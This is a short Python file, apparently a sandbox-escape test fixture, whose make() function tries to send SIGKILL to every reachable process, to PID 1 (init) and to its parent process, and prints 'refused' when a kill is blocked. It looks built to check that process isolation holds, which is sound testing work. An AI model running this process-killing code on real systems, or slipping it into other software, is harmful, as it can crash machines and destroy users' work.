import os
import signal

from attacking import Innocent


def make():
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as error:
        print("refused:", error)
    for process in (1, os.getppid()):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError as error:
            print("refused:", error)
    return Innocent()
